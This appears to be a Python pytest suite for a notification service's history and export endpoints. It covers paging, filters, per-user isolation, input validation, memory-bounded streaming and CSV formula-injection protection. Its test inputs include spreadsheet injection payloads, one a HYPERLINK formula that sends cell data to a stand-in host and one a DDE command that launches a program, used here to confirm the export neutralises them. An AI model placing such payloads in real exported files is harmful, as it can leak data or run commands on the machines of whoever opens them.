"""Notification history and its export against a real notifyd: pages, filters, RLS, CSV safety, memory."""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import psycopg
import pytest

from tests.server import ServerProcess, make_token

API = "/api/v1/notifications"
HISTORY = f"{API}/history"
EXPORT = f"{API}/export"
BASE = datetime(2025, 3, 1, 12, tzinfo=UTC)  # notification i of a user is created i hours before this

ALICE = uuid.UUID("0a11ce00-0000-4000-8000-000000000001")
BOB = uuid.UUID("0b0b0000-0000-4000-8000-000000000002")

# Titles a spreadsheet would run as formulas, and ones it must show as they are.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]  # fmt: skip
HARMLESS = ['plain, with a comma and "quotes"', "Grüße ✓ 日本", "line one\nline two", "1+1", "a=b"]
CSV_COLUMNS = ["id", "type", "priority", "status", "title", "body", "data", "read_at", "created_at", "expires_at",
               "group_key", "group_count", "action_taken", "action_taken_at",
               "delivery_in_app", "delivery_push", "delivery_email", "delivery_webhook", "delivery_chat",
               "delivery_sms"]  # fmt: skip


def headers(user: uuid.UUID) -> dict[str, str]:
    return {"Authorization": f"Bearer {make_token(user)}"}


def add_notifications(db: psycopg.Connection[Any], user: uuid.UUID, titles: list[str]) -> None:
    """One notification per title through the real triggers (planned deliveries), made over time with the clock
    pinned (a created_at never changes once made). The user has an address and no device: every other one asks
    for push too, which is skipped (no delivery row)."""
    db.execute("SELECT notify.upsert_recipient_v2(%s, %s, 'en', 'UTC', NULL)", (user, f"{user.hex}@example.com"))
    db.execute("UPDATE notify.settings SET value = 'true' WHERE key = 'clock.pinnable'")
    for i, title in enumerate(titles):
        db.execute("SELECT set_config('notify.clock', %s, false)", ((BASE - timedelta(hours=i)).isoformat(),))
        row = db.execute(
            """INSERT INTO notify.notifications (user_id, type, title, body, data, channels)
               VALUES (%s, %s, %s, %s, %s, %s) RETURNING id""",
            (
                user,
                "task" if i % 3 else "system",
                title,
                f"-body {i}",
                json.dumps({"n": i, "f": "=1"}),
                ["in_app", "email"] if i % 2 else ["in_app", "push", "email"],
            ),
        ).fetchone()
        assert row is not None
    db.execute("SELECT set_config('notify.clock', '', false)")


@pytest.fixture
def serve(db: psycopg.Connection[Any], own_server: Any) -> Iterator[httpx.Client]:
    """Alice: formula titles, harmless ones and 20 more; every 4th read, every 5th e-mail failed. Bob: 3."""
    add_notifications(db, ALICE, FORMULAS + HARMLESS + [f"Task {i}" for i in range(20)])
    add_notifications(db, BOB, ["bob's secret one", "bob's secret two", "=bob's formula"])
    alice = [r[0] for r in db.execute(query_ids(), (ALICE,)).fetchall()]
    db.execute("UPDATE notify.notifications SET read_at = now() WHERE id = ANY(%s)", (alice[::4],))
    db.execute(
        """UPDATE notify.notification_deliveries SET status = 'failed'
           WHERE channel = 'email' AND notification_id = ANY(%s)""",
        (alice[::5],),
    )
    server: ServerProcess = own_server()
    with httpx.Client(base_url=server.url, timeout=30) as client:
        yield client


def query_ids() -> str:
    return "SELECT id FROM notify.notifications WHERE user_id = %s ORDER BY created_at DESC, id DESC"


def facts(db: psycopg.Connection[Any], user: uuid.UUID) -> list[dict[str, Any]]:
    """The user's notifications as the owner sees them, newest first: what every filter is checked against."""
    rows = db.execute(
        """SELECT id, type, read_at IS NOT NULL, created_at, notify.delivery_status(id)
           FROM notify.notifications WHERE user_id = %s ORDER BY created_at DESC, id DESC""",
        (user,),
    ).fetchall()
    return [dict(zip(("id", "type", "read", "created_at", "delivery"), r, strict=True)) for r in rows]


def ok(response: httpx.Response) -> Any:
    assert response.status_code == 200, response.text
    return response.json()


def all_pages(client: httpx.Client, user: uuid.UUID, limit: int, **filters: str) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = []
    params: dict[str, Any] = {"limit": limit, **filters}
    while True:
        page = ok(client.get(HISTORY, params=params, headers=headers(user)))
        assert len(page["items"]) <= limit
        items += page["items"]
        if not page["has_more"]:
            assert page["next_cursor"] is None
            return items
        params["cursor"] = page["next_cursor"]


def export(client: httpx.Client, user: uuid.UUID, fmt: str, **filters: str) -> httpx.Response:
    response = client.get(EXPORT, params={"format": fmt, **filters}, headers=headers(user))
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"] == f'attachment; filename="notification-history.{fmt}"'
    return response


def neutralised(value: str) -> str:
    return "'" + value if value and value[0] in "=+-@\t\r" else value


def csv_row(item: dict[str, Any]) -> list[str]:
    """What the export's CSV line of a history item must say (data compared as JSON by the caller)."""
    channels = ("in_app", "push", "email", "webhook", "chat", "sms")
    flat = {**item, **{f"delivery_{c}": item["delivery_status"].get(c) for c in channels}}
    return [neutralised("" if flat[c] is None else str(flat[c])) if c != "data" else "" for c in CSV_COLUMNS]


def parse_csv(text: str) -> tuple[list[str], list[list[str]]]:
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    return header, rows


def exported_items(client: httpx.Client, user: uuid.UUID, fmt: str, **filters: str) -> list[dict[str, Any]]:
    """The export, checked cell by cell against the history pages; returns the pages' items."""
    items = all_pages(client, user, 7, **filters)
    response = export(client, user, fmt, **filters)
    if fmt == "json":
        assert response.headers["content-type"] == "application/json"
        assert response.json() == items
        return items
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    header, rows = parse_csv(response.text)
    assert header == CSV_COLUMNS
    data = CSV_COLUMNS.index("data")
    assert [json.loads(r[data]) for r in rows] == [i["data"] for i in items]
    assert [r[:data] + [""] + r[data + 1 :] for r in rows] == [csv_row(i) for i in items]
    return items


# --- export == history ----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_the_export_is_exactly_the_history_pages(db: psycopg.Connection[Any], serve: httpx.Client, fmt: str) -> None:
    items = exported_items(serve, ALICE, fmt)
    expected = facts(db, ALICE)
    assert [uuid.UUID(i["id"]) for i in items] == [f["id"] for f in expected]  # all of them, newest first
    assert [i["status"] for i in items] == ["read" if f["read"] else "unread" for f in expected]
    assert [i["delivery_status"] for i in items] == [f["delivery"] for f in expected]
    assert {i["delivery_status"]["email"] for i in items} >= {"failed"}
    first = items[0]
    assert (first["title"], first["body"], first["data"]) == (FORMULAS[0], "-body 0", {"n": 0, "f": "=1"})


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_another_users_rows_never_appear(db: psycopg.Connection[Any], serve: httpx.Client, fmt: str) -> None:
    bob = exported_items(serve, BOB, fmt)
    assert [uuid.UUID(i["id"]) for i in bob] == [f["id"] for f in facts(db, BOB)]
    alice_text = export(serve, ALICE, fmt).text
    assert "bob" not in alice_text
    assert not {i["id"] for i in bob} & {i["id"] for i in all_pages(serve, ALICE, 100)}
    stranger = uuid.uuid4()
    assert ok(serve.get(HISTORY, headers=headers(stranger))) == {"items": [], "next_cursor": None, "has_more": False}
    assert export(serve, stranger, "json").json() == []
    assert parse_csv(export(serve, stranger, "csv").text) == (CSV_COLUMNS, [])


# --- filters --------------------------------------------------------------------------------------------

WHEN = (BASE - timedelta(hours=10)).isoformat()
UNTIL = (BASE - timedelta(hours=3)).isoformat()
FILTERS: list[tuple[dict[str, str], Any]] = [  # (filter, which rows of facts() it keeps)
    ({"from": WHEN}, lambda f: f["created_at"] >= BASE - timedelta(hours=10)),
    ({"to": UNTIL}, lambda f: f["created_at"] < BASE - timedelta(hours=3)),
    ({"from": WHEN, "to": UNTIL}, lambda f: BASE - timedelta(hours=10) <= f["created_at"] < BASE - timedelta(hours=3)),
    ({"type": "system"}, lambda f: f["type"] == "system"),
    ({"type": "tweet"}, lambda f: False),
    ({"status": "read"}, lambda f: f["read"]),
    ({"status": "unread"}, lambda f: not f["read"]),
    ({"delivery_status": "failed"}, lambda f: "failed" in f["delivery"].values()),
    ({"delivery_status": "failed", "channel": "in_app"}, lambda f: f["delivery"].get("in_app") == "failed"),
    ({"channel": "push"}, lambda f: "push" in f["delivery"]),
    ({"channel": "email", "status": "unread", "type": "task"},
     lambda f: "email" in f["delivery"] and not f["read"] and f["type"] == "task"),
]  # fmt: skip


def test_filters_select_exactly_the_matching_rows(db: psycopg.Connection[Any], serve: httpx.Client) -> None:
    everything = facts(db, ALICE)
    chosen: list[bool] = []
    for params, keep in FILTERS:
        expected = [f["id"] for f in everything if keep(f)]
        for fmt in ("json", "csv"):
            items = exported_items(serve, ALICE, fmt, **params)
            assert [uuid.UUID(i["id"]) for i in items] == expected, params
        # Most filters keep some rows and drop others, so a filter that is ignored would be noticed.
        chosen.append(0 < len(expected) < len(everything))
    assert sum(chosen) >= 8


# --- bad input ------------------------------------------------------------------------------------------

BAD_PAGES = [
    {"from": "yesterday"},
    {"from": "2025-01-01T00:00:00"},  # no offset: which day is meant depends on where the reader is
    {"to": "2025-02-30T00:00:00Z"},
    {"from": "2025-03-01T00:00:00Z", "to": "2025-02-01T00:00:00Z"},
    {"from": "2025-03-01T00:00:00Z", "to": "2025-03-01T00:00:00Z"},
    {"status": "maybe"},
    {"delivery_status": "lost"},
    {"channel": "fax"},
    {"type": ""},
    {"limit": "0"},
    {"limit": "101"},
    {"limit": "ten"},
    {"cursor": "!!!"},
    {"cursor": "eyJzb3J0IjoibmV3ZXN0In0"},  # {"sort":"newest"}
    {"colour": "red"},
]
BAD_EXPORTS = [
    {"format": "xml"},
    {"format": "csv", "from": "yesterday"},
    {"format": "json", "from": "2025-03-01T00:00:00Z", "to": "2025-02-01T00:00:00Z"},
    {"format": "csv", "cursor": "eyJzb3J0IjoibmV3ZXN0In0"},
    {"format": "csv", "limit": "5"},
]


def validation_error(response: httpx.Response) -> str:
    assert response.status_code == 422, response.text
    body = response.json()
    assert set(body) == {"error"} and body["error"]["code"] == "VALIDATION_ERROR"
    return str(body["error"]["message"])


def test_bad_input_is_a_422_never_a_500(serve: httpx.Client) -> None:
    for params in BAD_PAGES:
        validation_error(serve.get(HISTORY, params=params, headers=headers(ALICE)))
    for params in BAD_EXPORTS:
        validation_error(serve.get(EXPORT, params=params, headers=headers(ALICE)))
    backwards = {"from": "2025-03-01T00:00:00Z", "to": "2025-02-01T00:00:00Z"}
    assert validation_error(serve.get(EXPORT, params=backwards, headers=headers(ALICE))) == "from must be before to"
    # A cursor of the notification center's list is not a history cursor.
    list_cursor = ok(serve.get(API, params={"limit": 1}, headers=headers(ALICE)))["next_cursor"]
    assert validation_error(serve.get(HISTORY, params={"cursor": list_cursor}, headers=headers(ALICE))) == (
        "cursor is not valid"
    )


def test_end_users_only(serve: httpx.Client) -> None:
    service = {"Authorization": f"Bearer {make_token('billing', role='service')}"}
    for path in (HISTORY, EXPORT):
        assert serve.get(path).status_code == 401
        assert serve.get(path, headers=service).status_code == 403


# --- CSV injection --------------------------------------------------------------------------------------


def test_csv_cells_cannot_run_as_formulas(serve: httpx.Client) -> None:
    header, rows = parse_csv(export(serve, ALICE, "csv").text)
    by_title = {r[header.index("title")] for r in rows}
    assert {"'" + f for f in FORMULAS} <= by_title
    assert not {f for f in FORMULAS} & by_title
    assert set(HARMLESS) <= by_title  # nothing else is touched, commas, quotes and newlines survive
    assert {r[header.index("body")] for r in rows} >= {"'-body 0"}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    # JSON is data, not a spreadsheet: the titles stay exactly as sent.
    assert {i["title"] for i in export(serve, ALICE, "json").json()} >= set(FORMULAS)


# --- more than the memory bound, flat memory -------------------------------------------------------------

# Rows of 4 KB: the export is larger than MEMORY_BOUND, so one that buffered it, even as bare bytes, would fail
# the bound. Few rows (the time went to rows, not to bytes: 100,000 rows of 400 bytes took 20-30 s per format).
MANY = 20_000
BODY = 4000
MEMORY_BOUND = 60 * 1024 * 1024
# The triggers (seq, rate limits, planning) would take minutes for this many: the rows are made as planned.
BULK = [
    "ALTER TABLE notify.notifications DISABLE TRIGGER USER",
    "ALTER TABLE notify.notification_deliveries DISABLE TRIGGER USER",
    # An import gives each row an id carrying its created_at (what the insert trigger would have done).
    """INSERT INTO notify.notifications (id, user_id, type, title, body, data, seq, created_at)
       SELECT notify_private.uuid_v7_at(t.at), %(user)s, 'task', 'Notification ' || g, repeat('x', %(body)s) || g,
              jsonb_build_object('g', g), g, t.at
       FROM generate_series(1, %(many)s) AS g, LATERAL (SELECT %(base)s - g * interval '1 second' AS at) AS t""",
    """INSERT INTO notify.notification_deliveries (notification_id, user_id, channel, status)
       SELECT id, user_id, 'in_app', 'delivered' FROM notify.notifications WHERE user_id = %(user)s""",
    "ALTER TABLE notify.notifications ENABLE TRIGGER USER",
    "ALTER TABLE notify.notification_deliveries ENABLE TRIGGER USER",
]


def rss(server: ServerProcess) -> int:
    assert server.proc is not None
    with open(f"/proc/{server.proc.pid}/status") as status:
        kb = next(line.split()[1] for line in status if line.startswith("VmRSS:"))
    return int(kb) * 1024


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_an_export_larger_than_the_memory_bound_streams_in_flat_memory(
    db: psycopg.Connection[Any], own_server: Any, fmt: str
) -> None:
    db.execute("SELECT notify.upsert_recipient_v2(%s, NULL, 'en', 'UTC', NULL)", (ALICE,))
    with db.transaction():  # the triggers are off inside this transaction only
        for statement in BULK:
            db.execute(statement, {"user": ALICE, "base": BASE, "many": MANY, "body": BODY})
    db.execute("ANALYZE notify.notifications, notify.notification_deliveries")
    server: ServerProcess = own_server()
    params = {"format": fmt}
    with httpx.Client(base_url=server.url, timeout=60) as client:
        # Warm up the code paths (a few hundred rows), so the baseline includes them.
        warm = client.get(EXPORT, params={**params, "from": (BASE - timedelta(minutes=5)).isoformat()},
                          headers=headers(ALICE))  # fmt: skip
        assert warm.status_code == 200 and warm.text.count("Notification ") == 300
        before = rss(server)
        peak, size, newlines, head = before, 0, 0, b""
        with client.stream("GET", EXPORT, params=params, headers=headers(ALICE)) as response:
            assert response.status_code == 200
            for chunk in response.iter_bytes():
                size += len(chunk)
                newlines += chunk.count(b"\n")
                head += chunk if len(head) < 10_000 else b""
                peak = max(peak, rss(server))
        peak = max(peak, rss(server))
    assert size > MANY * BODY  # every row, bodies and all
    assert size > MEMORY_BOUND * 5 // 4, "the export must not fit in the bound"
    # CSV: a header and one line per row; JSON: "[", one line per element, "]".
    assert newlines == (MANY + 1 if fmt == "csv" else MANY + 2)
    assert b'"Notification 1"' in head  # newest first
    print(f"{fmt}: {size / 2**20:.0f} MB streamed, RSS {before / 2**20:.0f} MB -> peak {peak / 2**20:.0f} MB")
    assert peak - before < MEMORY_BOUND, f"RSS grew by {(peak - before) / 2**20:.1f} MB while streaming {size} bytes"
